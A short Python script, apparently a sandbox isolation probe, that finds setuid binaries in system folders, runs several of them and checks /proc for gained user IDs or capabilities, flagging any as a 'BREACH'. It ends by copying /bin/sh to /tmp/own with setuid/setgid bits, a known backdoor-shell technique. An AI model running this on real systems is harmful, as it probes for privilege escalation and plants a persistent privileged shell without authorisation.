# Runs every setuid program it finds and looks whose identity it has.
import os, stat, subprocess
found = 0
for folder in ['/usr/bin', '/usr/sbin', '/bin', '/usr/lib', '/usr/libexec']:
    for base, folders, names in os.walk(folder):
        if base.count('/') > 4:
            folders.clear()
        for name in names:
            path = os.path.join(base, name)
            try:
                entry = os.lstat(path)
            except OSError:
                continue
            if not stat.S_ISREG(entry.st_mode) or not entry.st_mode & 0o6000 or found >= 6:
                continue
            found += 1
            try:
                child = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                lines = open(f'/proc/{child.pid}/status').read().splitlines()
                child.kill()
                child.wait()
            except OSError as error:
                print('denied', path, error.strerror)
                continue
            ids = [l for l in lines if l.startswith(('Uid:', 'CapEff:'))]
            print(path, ids)
            if f'\t{os.getuid()}\t{os.getuid()}\t{os.getuid()}' not in ids[0] or not ids[1].endswith('0000000000000000'):
                print('BREACH: gained by', path, ids)
own = '/tmp/own'
with open('/bin/sh', 'rb') as f, open(own, 'wb') as g:
    g.write(f.read())
os.chmod(own, 0o6755)
print('setuid programs', found)
print('HELD')
